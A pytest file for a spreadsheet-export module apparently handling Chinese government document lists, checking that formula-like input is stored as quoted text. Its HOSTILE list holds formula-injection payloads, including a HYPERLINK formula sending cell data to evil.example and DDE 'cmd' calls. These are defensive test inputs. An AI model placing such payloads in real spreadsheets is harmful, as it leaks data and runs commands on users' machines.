"""gongkai.spreadsheets: outside text is written as text, never as a formula."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from gongkai import spreadsheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_writes_a_formula_looking_name_as_a_text_cell(
    text: str, tmp_path: Path
) -> None:
    book = Workbook()
    sheet = book.active
    spreadsheets.append(sheet, ["机关", "文件"])
    spreadsheets.append(sheet, [text, f"{text}.pdf"])
    path = tmp_path / "out.xlsx"
    spreadsheets.save(book, path)
    again = load_workbook(path)
    row = next(again.active.iter_rows(min_row=2, values_only=False))
    for cell, written in zip(row, [text, f"{text}.pdf"], strict=True):
        assert cell.data_type == "s"
        assert cell.value == written  # kept as published, not altered
        assert cell.quotePrefix is True


def test_it_keeps_numbers_numbers_and_blanks_blank(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    spreadsheets.append(sheet, [7, Decimal("12.5"), -2, None, "/", "某局"])
    path = tmp_path / "n.xlsx"
    spreadsheets.save(book, path)
    values = next(load_workbook(path).active.iter_rows(values_only=True))
    assert values == (7, 12.5, -2, None, "/", "某局")
    cells = next(load_workbook(path).active.iter_rows())
    assert cells[4].data_type == "s" and not cells[4].quotePrefix


def test_it_saves_atomically_leaving_no_temporary_file(tmp_path: Path) -> None:
    book = Workbook()
    spreadsheets.append(book.active, ["a"])
    spreadsheets.save(book, tmp_path / "sub" / "x.xlsx")
    assert [p.name for p in (tmp_path / "sub").iterdir()] == ["x.xlsx"]
